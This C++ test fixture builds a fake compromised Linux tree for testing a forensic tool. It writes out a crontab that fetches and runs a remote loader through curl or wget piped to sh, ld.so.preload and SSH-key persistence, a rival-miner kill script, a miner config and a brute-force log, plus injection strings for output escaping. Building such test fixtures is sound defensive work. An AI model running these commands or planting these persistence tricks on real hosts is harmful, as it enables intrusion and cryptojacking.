#include "support/linux_tree.h"

#include <string>

#include "support/fake_proc.h"
#include "support/test_support.h"

namespace msw::test {

void write_linux_tree(const std::filesystem::path& root, bool hostile) {
  const std::string hostile_text =
      hostile ? " " + std::string(kHostileHtml) + std::string(kHostileScriptEnd) + " " + std::string(kHostileJsUrl)
              : "";
  write_file(root / "etc/hostname", "web-01\n");
  write_file(root / "etc/passwd",
             "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n");
  write_file(root / "etc/hosts", "127.0.0.1 localhost\n127.0.0.1 pool.minexmr.com # rivals' pool" + hostile_text +
                                     "\n198.51.100.23 update.aegis.aliyun.com\n");
  write_file(root / "etc/resolv.conf", "nameserver 8.8.8.8\nnameserver 223.5.5.5\n");
  write_file(root / "etc/ld.so.preload", "/usr/local/lib/libsystem.so\n");
  write_file(root / "var/spool/cron/crontabs/root",
             "*/10 * * * * (curl -fsSL http://203.0.113.9/ldr.sh || wget -q -O- http://203.0.113.9/ldr.sh) | sh" +
                 hostile_text + "\n" +
                 (hostile ? "@reboot " + std::string(kHostileFormula) + " /tmp/kdevtmpfsi\n" : ""));
  write_file(root / "root/.ssh/authorized_keys",
             "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7vbqajDhA admin@laptop\n"
             "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAACAQDJ5hZ4 root@kinsing\n");
  write_file(root / "tmp/ldr.sh",
             "#!/bin/sh\npkill -f xmrig\nps aux | grep -v grep | grep kinsing | awk '{print $2}' | xargs kill -9\n"
             "curl -o /tmp/kdevtmpfsi http://203.0.113.9/kdevtmpfsi\n");
  write_file(root / "tmp/.x/config.json", R"({"pools":[{"url":"pool.supportxmr.com:3333","user":")" +
                                              std::string(kFakeMinerWallet) + R"(","pass":"x"}]})");
  std::string auth;
  for (int i = 0; i < 240; ++i)
    auth += "Nov 20 03:0" + std::to_string(i / 60) + ":" + (i % 60 < 10 ? "0" : "") + std::to_string(i % 60) +
            " web-01 sshd[" + std::to_string(4000 + i) + "]: Failed password for root from 10.20.0.7 port " +
            std::to_string(40000 + i) + " ssh2\n";
  if (hostile)
    auth += "Nov 20 03:04:59 web-01 sshd[4399]: Failed password for invalid user " + std::string(kHostileFormula) +
            " from 10.20.0.7 port 40999 ssh2\n";
  auth += "Nov 20 03:05:00 web-01 sshd[4400]: Accepted password for root from 10.20.0.7 port 41000 ssh2\n";
  write_file(root / "var/log/auth.log", auth);
}

}  // namespace msw::test
